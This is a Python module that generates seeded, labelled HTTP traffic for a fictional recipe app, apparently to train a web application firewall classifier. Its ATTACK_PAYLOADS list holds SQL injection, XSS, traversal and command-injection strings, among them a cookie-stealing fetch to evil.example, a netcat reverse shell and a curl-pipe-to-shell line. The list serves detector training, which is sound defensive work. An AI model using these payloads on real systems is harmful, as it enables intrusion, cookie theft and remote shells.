"""A simulated application: benign traffic in its own style, and attacks on it. A plain module.

"Pantry", a recipe-and-notes app under `/pantry`: parameter names like `select_tags`, `union_id`,
`drop_zone`; JSON documents with nested notes; free text full of words a WAF dislikes ("select the
union of flour and sugar", "drop the script", "<b>bold</b> <3"). The shipped model, trained on other
sites, refuses part of it; after retraining on its labelled flows it should not.

Every request is a dict in the datasets' JSON Lines format (method, target, headers, body, label,
category, source), seeded: the same seed gives the same traffic.
"""

from __future__ import annotations

import json
import random
from urllib.parse import quote, quote_plus

ROOT = "/pantry"
SOURCE = "pantry"

WORDS = (
    "select the union of flour and sugar, then drop the butter into the table mix",
    "insert the script into the oven and update the timer; delete nothing",
    "union of two sauces: select one from the shelf where it is cool",
    "grandma's recipe: drop 2 eggs, select a pan, order by taste",
    "O'Brien's pie <3 the best from the script of my mother",
    "alert: the cake is done when the table timer rings",
    "select * from the fridge and cook what's left",
    "1 cup milk; 2 cups flour -- mix and bake 20 min",
    "don't drop the lid or the kitchen script gets messy",
    "<b>bold</b> and <i>spicy</i> chili, union of beans",
    "or just buy bread and sleep early",
    "exec chef said: char the peppers, concat the herbs",
    "where to find null fat yoghurt and benchmark flour brands",
    "having a dinner party: join us, drop by at 8",
    "echo of thyme and cat's favourite tuna",
    "the onload of the oven took 10 min; document the recipe",
)
TAGS = ("dessert", "vegan", "quick", "union-square-market", "select-cuts", "drop-biscuits", "script-kitchen",
        "family", "spicy", "table-ready", "or-else-sauce")
NAMES = ("Zoë", "O'Hara", "D'Souza", "Ann-Marie", "Chef Union", "Selena Select", "Dropbox Dan")
AGENTS = ("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1")

ATTACK_PAYLOADS = (
    ("sqli", "1' OR '1'='1' -- "),
    ("sqli", "42 UNION SELECT username, password FROM users--"),
    ("sqli", "1; DROP TABLE recipes; --"),
    ("sqli", "' AND SLEEP(5)#"),
    ("sqli", "1' AND extractvalue(1,concat(0x7e,(SELECT version())))--"),
    ("xss", "<script>alert(document.cookie)</script>"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("xss", "\"><svg/onload=fetch('//evil.example/'+document.cookie)>"),
    ("xss", "javascript:alert(String.fromCharCode(88,83,83))"),
    ("traversal", "../../../../etc/passwd"),
    ("traversal", "..%2f..%2f..%2fwindows%2fwin.ini"),
    ("cmdi", "; cat /etc/shadow"),
    ("cmdi", "| nc -e /bin/sh 203.0.113.9 4444"),
    ("cmdi", "$(curl http://evil.example/x.sh | sh)"),
    ("ssti", "{{7*7}}{{config.items()}}"),
)


class App:
    """`benign()` and `attack()` give one request each; `traffic(n, attack_share)` a mixed list."""

    def __init__(self, seed: int = 0) -> None:
        self.rng = random.Random(seed)
        self.n = 0

    def _headers(self, ctype: str | None = None) -> list[list[str]]:
        rng = self.rng
        h = [["Host", "pantry.example"], ["User-Agent", rng.choice(AGENTS)], ["Accept", "application/json"]]
        if ctype:
            h.append(["Content-Type", ctype])
        h.append(["X-Pantry-Session", f"{rng.randrange(16**12):012x}"])
        return h

    def _text(self) -> str:
        rng = self.rng
        text = rng.choice(WORDS)
        if rng.random() < 0.4:
            text += " " + rng.choice(WORDS)
        return text

    def _req(self, method: str, target: str, headers: list, body: str, label: str, category: str) -> dict:
        self.n += 1
        return {"id": f"pantry-{self.n}", "source": SOURCE, "split": "train", "label": label, "category": category,
                "method": method, "target": target, "headers": headers, "body": body}

    def benign(self) -> dict:
        return self._make(None)

    def attack(self) -> dict:
        return self._make(self.rng.choice(ATTACK_PAYLOADS))

    def _make(self, payload: tuple[str, str] | None) -> dict:
        """One request of one of the app's endpoints; with a payload, the payload replaces one value."""
        rng = self.rng
        kind = rng.randrange(5)
        evil = payload[1] if payload else None
        label, category = ("attack", payload[0]) if payload else ("benign", "benign")
        if kind == 0:  # search with free text
            q = evil if evil else self._text()
            target = f"{ROOT}/api/search?query={quote_plus(q)}&select_tags={rng.choice(TAGS)}&page={rng.randint(1, 9)}"
            return self._req("GET", target, self._headers(), "", label, category)
        if kind == 1:  # recipe list with SQL-looking parameter names
            uid = evil if evil else str(rng.randint(1, 5000))
            target = (f"{ROOT}/api/recipes?union_id={quote_plus(uid)}&drop_zone={rng.choice(('top', 'bottom', 'side'))}"
                      f"&order_by={rng.choice(('rating', 'time', 'name'))}")
            return self._req("GET", target, self._headers(), "", label, category)
        if kind == 2:  # a note as nested JSON
            text = evil if evil else self._text()
            doc = {"note": {"title": rng.choice(TAGS).replace("-", " "), "text": text, "author": rng.choice(NAMES)},
                   "tags": rng.sample(TAGS, 2), "script_ref": f"s-{rng.randint(1, 999)}", "pinned": rng.random() < 0.3}
            target = f"{ROOT}/api/notes/{rng.randint(1, 99999)}"
            return self._req("PUT" if rng.random() < 0.5 else "POST", target, self._headers("application/json"),
                             json.dumps(doc), label, category)
        if kind == 3:  # comment form
            text = evil if evil else self._text()
            body = f"comment={quote_plus(text)}&name={quote_plus(rng.choice(NAMES))}&recipe={rng.randint(1, 5000)}"
            return self._req("POST", f"{ROOT}/comments", self._headers("application/x-www-form-urlencoded"), body, label, category)
        # file path of a recipe image
        name = evil if evil else f"{rng.choice(TAGS)}-{rng.randint(1, 999)}.jpg"
        target = f"{ROOT}/img?file={quote(name, safe='')}&w={rng.choice((120, 320, 640))}"
        return self._req("GET", target, self._headers(), "", label, category)

    def traffic(self, n: int, attack_share: float = 0.0) -> list[dict]:
        return [self.attack() if self.rng.random() < attack_share else self.benign() for _ in range(n)]
